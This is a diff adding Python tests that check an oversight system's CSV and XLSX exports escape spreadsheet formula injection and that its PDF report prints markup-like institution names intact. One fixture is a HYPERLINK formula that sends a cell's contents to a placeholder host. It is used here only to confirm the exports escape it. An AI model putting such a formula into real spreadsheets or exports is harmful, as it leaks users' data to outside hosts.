@@ -1,0 +1,57 @@
+"""Exported tables are opened in spreadsheet programs: text from the stations must stay
+text there (security audit: CSV/XLSX formula injection, OWASP "CSV Injection")."""
+
+from __future__ import annotations
+
+import csv
+import io
+import zipfile
+
+from hub.oversight import exports
+
+#: A staff id is free text a station's device writes (schemas.case: up to 64 characters).
+EVIL = '=HYPERLINK("http://x.test/?"&A1,"open")'
+
+
+def _table() -> list[list[object]]:
+    return [["机构代码", "机构", "工作人员", "按时办结率"],
+            ["410621101201", "某村", EVIL, 0.5],
+            ["410621101201", "某村", "-1+1", None],
+            ["410621101201", "某村", "s1", 1.0]]
+
+
+def test_csv_cells_from_stations_never_start_a_formula() -> None:
+    rows = list(csv.reader(io.StringIO(exports.to_csv(_table()).decode("utf-8-sig"))))
+    assert rows[1][2] == "'" + EVIL and rows[2][2] == "'-1+1"
+    assert rows[3][2] == "s1" and rows[1][3] == "0.5"  # plain text and numbers unchanged
+
+
+def test_xlsx_keeps_formula_like_text_as_text() -> None:
+    from openpyxl import load_workbook
+
+    data = exports.to_xlsx(_table())
+    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet  # no cell holds a formula
+    ws = load_workbook(io.BytesIO(data)).active
+    values = [[c.value for c in r] for r in ws.iter_rows()]
+    assert values[1][2] == EVIL and values[2][2] == "-1+1" and values[1][3] == 0.5
+
+
+def test_the_monthly_report_prints_any_institution_name() -> None:
+    """The report's title is reportlab markup: "<b" in a name was a 500, "<x>" vanished."""
+    import datetime as dt
+    import subprocess
+    import tempfile
+
+    from hub.oversight.indicators import Row
+    from hub.oversight.report import monthly_report
+
+    name = "R&D<x>实验<b村"
+    pdf = monthly_report(scope_name=name, first="2026-03", last="2026-03",
+                         today=dt.date(2026, 3, 31), rows=[Row("410621101201")],
+                         total=Row(""), name=lambda c: "某村", overdue=[], missing=[])
+    with tempfile.NamedTemporaryFile(suffix=".pdf") as f:
+        f.write(pdf)
+        f.flush()
+        text = subprocess.run(["pdftotext", f.name, "-"], capture_output=True, text=True).stdout
+    assert name in text
